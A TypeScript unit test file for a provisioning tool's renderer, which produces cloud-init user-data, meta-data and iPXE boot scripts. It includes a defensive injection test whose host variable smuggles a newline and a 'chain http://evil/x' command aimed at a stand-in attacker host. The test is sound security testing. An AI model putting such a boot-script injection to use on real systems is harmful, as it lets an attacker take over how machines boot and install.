import { readFileSync, writeFileSync } from 'node:fs';
import { parse } from 'yaml';
import { describe, expect, it } from 'vitest';
import type { Host, RenderedHost, Site, Template } from '../../../src/model/index.js';
import { renderHost } from '../../../src/render/index.js';
import { host, maasSite, pxeSite, template } from './fixtures.js';

/** `UPDATE_GOLDEN=1 npx vitest run test/unit/render` rewrites the golden files; review the diff. */
const UPDATE = process.env['UPDATE_GOLDEN'] === '1';
const goldenDir = new URL('./golden/', import.meta.url);

function format(r: RenderedHost): string {
  return [
    '# user-data',
    r.userData.trimEnd(),
    '# meta-data',
    r.metaData.trimEnd(),
    '# ipxe',
    r.ipxeScript.trimEnd(),
    `# kernelArgs: ${r.kernelArgs}`,
    `# os: ${r.os.distro} ${r.os.series}`,
    `# specHash: ${r.specHash}`,
    '',
  ].join('\n');
}

const edgeTemplate = template('edge-node', {
  agent: true,
  vars: {
    ntpServer: { description: 'NTP server', default: '10.250.0.1' },
    fleetUrl: { default: 'https://fleet.example.net' },
    zone: { description: 'Zone label' },
  },
  boot: { kernelArgs: 'console=ttyS0,115200n8 gough.zone={{ vars.zone }}', ipxe: 'echo zone {{ vars.zone }}' },
  cloudConfig: {
    hostname: '{{ host.hostname }}',
    package_update: true,
    packages: ['chrony', 'curl'],
    write_files: [
      { path: '/etc/chrony/sources.d/gough.sources', content: 'server {{ vars.ntpServer }} iburst\n' },
      {
        path: '/etc/systemd/network/10-boot.network',
        content:
          '[Match]\nMACAddress={{ host.bootMac }}\n\n[Network]\nAddress={{ host.address }}\nGateway={{ host.gateway }}\n{% for d in host.dns %}DNS={{ d }}\n{% endfor %}',
      },
    ],
    runcmd: [
      ['systemctl', 'restart', 'chrony'],
      'echo "{{ host.name }} in {{ site.name }} (zone {{ vars.zone | upcase }})" > /etc/motd',
    ],
  },
});

const k8sTemplate = template('k8s-worker', {
  vars: {
    kubernetesVersion: { default: '1.30' },
    controlPlane: { description: 'API endpoint' },
    joinTokenFile: { default: '/etc/kubernetes/join-token' },
  },
  boot: { kernelArgs: 'quiet' },
  cloudConfig: {
    packages: ['containerd', 'apt-transport-https'],
    runcmd: [
      'curl -fsSL https://pkgs.k8s.io/core:/stable:/v{{ vars.kubernetesVersion }}/deb/Release.key | gpg --dearmor -o /etc/apt/keyrings/k8s.gpg',
      ['sh', '-c', 'kubeadm join {{ vars.controlPlane }} --token "$(cat {{ vars.joinTokenFile }})" --node-name {{ host.name }}'],
    ],
    bootcmd: [],
    ntp: { enabled: true, servers: [] },
  },
});

const rawTemplate = template('raw-script', {
  vars: { motd: { default: 'managed by Gough' } },
  userData: '#!/bin/bash\nset -eu\necho "{{ vars.motd | upcase }}" > /etc/motd\n{% if host.firmware == "uefi" %}echo efi{% else %}echo bios{% endif %}\n',
});

type Case = { name: string; host: Host; site: Site; template: Template | undefined };
const CASES: Case[] = [
  {
    name: 'edge-agent',
    host: host('edge-01', { template: 'edge-node', vars: { zone: 'a' } }, { role: 'edge' }),
    site: pxeSite(),
    template: edgeTemplate,
  },
  {
    name: 'maas-k8s-worker',
    host: host(
      'r1-n01',
      {
        site: 'dc1',
        template: 'k8s-worker',
        os: { distro: 'ubuntu', series: 'jammy' },
        hardware: { macs: ['0c:c4:7a:10:01:01', '0c:c4:7a:10:01:02'], arch: 'amd64', firmware: 'uefi' },
        vars: { controlPlane: '10.10.0.10:6443', kubernetesVersion: '1.31' },
      },
      { role: 'k8s-worker', rack: 'r1' },
    ),
    site: maasSite(),
    template: k8sTemplate,
  },
  {
    name: 'raw-user-data',
    host: host('edge-02', { template: 'raw-script', hardware: { macs: ['52:54:00:25:00:02'], arch: 'arm64', firmware: 'uefi' } }),
    site: pxeSite(),
    template: rawTemplate,
  },
  {
    name: 'no-template',
    host: (() => {
      const h = host('edge-03', { hardware: { macs: ['52:54:00:25:00:03'], arch: 'amd64', firmware: 'bios' } });
      delete h.spec.os;
      return h;
    })(),
    site: pxeSite(),
    template: undefined,
  },
  {
    name: 'uefi-two-initrds-boot-mac',
    host: host('edge-04', {
      hostname: 'edge-04.lab.example',
      template: 'k8s-worker',
      hardware: {
        macs: ['52:54:00:25:00:04', '52:54:00:25:01:04'],
        bootMac: '52:54:00:25:01:04',
        arch: 'amd64',
        firmware: 'uefi',
      },
      vars: { controlPlane: '10.250.0.5:6443' },
    }),
    site: pxeSite({
      pxe: {
        interface: 'gough0',
        mode: 'proxy',
        subnet: '10.250.0.0/24',
        bootServer: '10.250.0.1',
        installer: {
          kernel: 'http://mirror.example/ubuntu/vmlinuz',
          initrd: ['http://mirror.example/ubuntu/initrd', '/extra/firmware.cpio'],
        },
      },
    }),
    template: k8sTemplate,
  },
  {
    name: 'pxe-site-without-installer',
    host: host('edge-05', { hardware: { macs: ['52:54:00:25:00:05'], arch: 'amd64', firmware: 'bios' } }),
    site: pxeSite({ pxe: { interface: 'gough0', mode: 'dhcp', subnet: '10.250.0.0/24', bootServer: '10.250.0.1' } }),
    template: undefined,
  },
];

describe('renderHost golden files', () => {
  it.each(CASES)('$name', ({ name, host: h, site, template: t }) => {
    const r = renderHost({ host: h, site, template: t, revision: 'abc123' });
    if (!r.ok) throw new Error(JSON.stringify(r.errors));
    const text = format(r.rendered);
    const file = new URL(`${name}.txt`, goldenDir);
    if (UPDATE) writeFileSync(file, text);
    expect(text).toBe(readFileSync(file, 'utf8'));
  });

  it.each(CASES)('$name: user-data is a cloud-config cloud-init reads back, meta-data names the host', (c) => {
    const r = renderHost({ host: c.host, site: c.site, template: c.template, revision: 'abc123' });
    if (!r.ok) throw new Error(JSON.stringify(r.errors));
    const meta = parse(r.rendered.metaData) as Record<string, string>;
    expect(meta['local-hostname']).toBe(c.host.spec.hostname ?? c.host.metadata.name);
    expect(meta['instance-id']).toBe(`${c.host.metadata.name}-${r.rendered.specHash.slice(0, 12)}`);
    if (c.template?.spec.userData !== undefined) return;
    expect(r.rendered.userData.startsWith('#cloud-config\n')).toBe(true);
    const doc = parse(r.rendered.userData, { version: '1.1' });
    expect(typeof doc).toBe('object');
  });
});

describe('renderHost output', () => {
  const ok = (h: Host, site: Site, t: Template | undefined): RenderedHost => {
    const r = renderHost({ host: h, site, template: t, revision: 'r1' });
    if (!r.ok) throw new Error(JSON.stringify(r.errors));
    return r.rendered;
  };

  it('renders cloudConfig values as data: keys in written order, multi-line text intact', () => {
    const r = ok(host('edge-01', { vars: { zone: 'b' } }, { role: 'edge' }), pxeSite(), edgeTemplate);
    const doc = parse(r.userData) as Record<string, unknown>;
    expect(Object.keys(doc)).toEqual(['hostname', 'package_update', 'packages', 'write_files', 'runcmd']);
    expect(doc['hostname']).toBe('edge-01');
    const files = doc['write_files'] as { path: string; content: string }[];
    expect(files[1]?.content).toBe(
      '[Match]\nMACAddress=52:54:00:25:00:01\n\n[Network]\nAddress=10.250.0.11/24\nGateway=10.250.0.1\nDNS=10.250.0.1\n',
    );
    expect((doc['runcmd'] as unknown[])[1]).toBe('echo "edge-01 in edge1 (zone B)" > /etc/motd');
  });

  it('adds the agent install with the site settings and a token file, never a secret', () => {
    const r = ok(host('edge-01', { vars: { zone: 'b' } }), pxeSite(), edgeTemplate);
    const doc = parse(r.userData) as { write_files: { path: string; content: string }[]; runcmd: unknown[] };
    const agentFile = doc.write_files.find((f) => f.path === '/etc/gough/agent.yaml');
    expect(parse(agentFile?.content ?? '')).toEqual({
      url: 'http://10.250.0.1:8081',
      host: 'edge-01',
      site: 'edge1',
      reportIntervalSeconds: 30,
      tokenFile: '/etc/gough/agent-token',
    });
    expect(doc.runcmd.at(-1)).toEqual([
      'sh',
      '-c',
      'curl -fsSL --retry 10 --retry-connrefused http://10.250.0.1:8081/agent/install.sh | sh -s -- --config /etc/gough/agent.yaml',
    ]);
    expect(r.userData).not.toContain('GOUGH_AGENT_TOKEN');
  });

  it('leaves the agent out when the site disables agents', () => {
    const r = ok(host('edge-01', { vars: { zone: 'b' } }), pxeSite({ agent: { enabled: false } }), edgeTemplate);
    expect(r.userData).not.toContain('/etc/gough/agent.yaml');
  });

  it('raw blocks keep other template languages literal', () => {
    const t = template('raw', { cloudConfig: { runcmd: ["docker inspect --format '{% raw %}{{.State.Status}}{% endraw %}' {{ host.name }}"] } });
    const r = ok(host('edge-01'), pxeSite(), t);
    expect(parse(r.userData)).toEqual({ runcmd: ["docker inspect --format '{{.State.Status}}' edge-01"] });
  });

  it('host vars override template defaults', () => {
    const a = ok(host('e', { vars: { zone: 'a' } }), pxeSite(), edgeTemplate);
    const b = ok(host('e', { vars: { zone: 'a', ntpServer: 'ntp.example' } }), pxeSite(), edgeTemplate);
    expect(a.userData).toContain('server 10.250.0.1 iburst');
    expect(b.userData).toContain('server ntp.example iburst');
  });

  it('the PXE installer script boots the site installer with the NoCloud seed and the template args', () => {
    const r = ok(host('edge-01', { vars: { zone: 'a' } }), pxeSite(), edgeTemplate);
    const lines = r.ipxeScript.split('\n');
    expect(lines[0]).toBe('#!ipxe');
    expect(lines).toContain(
      'kernel http://10.250.0.1:8081/debian/bookworm/linux initrd=initrd.gz auto=true priority=critical ds=nocloud-net;s=http://10.250.0.1:8081/cloud-init/52:54:00:25:00:01/ console=ttyS0,115200n8 gough.zone=a',
    );
    expect(lines).toContain('initrd http://10.250.0.1:8081/debian/bookworm/initrd.gz');
    expect(lines.indexOf('echo zone a')).toBeLessThan(lines.findIndex((l) => l.startsWith('kernel ')));
    expect(lines.at(-2)).toBe('boot');
    expect(r.kernelArgs).toBe('console=ttyS0,115200n8 gough.zone=a');
  });

  it('a variable with a newline cannot add an iPXE command (kernel args, extra iPXE lines)', () => {
    const r = ok(host('edge-01', { vars: { zone: 'a\nchain http://evil/x' } }), pxeSite(), edgeTemplate);
    expect(r.ipxeScript.split('\n').filter((l) => l.startsWith('chain'))).toEqual([]);
    expect(r.ipxeScript).toContain('\necho zone a chain http://evil/x\n');
    expect(r.kernelArgs).toBe('console=ttyS0,115200n8 gough.zone=a chain http://evil/x');
  });

  it('a MAAS host gets an informational iPXE script', () => {
    const r = ok(host('r1-n01', { site: 'dc1', vars: { controlPlane: 'cp:6443' } }), maasSite(), k8sTemplate);
    expect(r.ipxeScript).toMatch(/^#!ipxe\n# Host r1-n01 is provisioned by MAAS at site dc1/);
    expect(r.ipxeScript.trimEnd().endsWith('exit')).toBe(true);
  });

  it('is deterministic and does not depend on the revision', () => {
    const h = host('edge-01', { vars: { zone: 'a' } });
    const a = renderHost({ host: h, site: pxeSite(), template: edgeTemplate, revision: 'r1' });
    const b = renderHost({ host: structuredClone(h), site: pxeSite(), template: structuredClone(edgeTemplate), revision: 'r2' });
    expect(a).toEqual(b);
  });

  it('does not change its inputs', () => {
    const h = host('edge-01', { vars: { zone: 'a' } });
    const site = pxeSite();
    const t = structuredClone(edgeTemplate);
    const before = JSON.stringify([h, site, t]);
    ok(h, site, t);
    ok(h, site, t);
    expect(JSON.stringify([h, site, t])).toBe(before);
  });
});
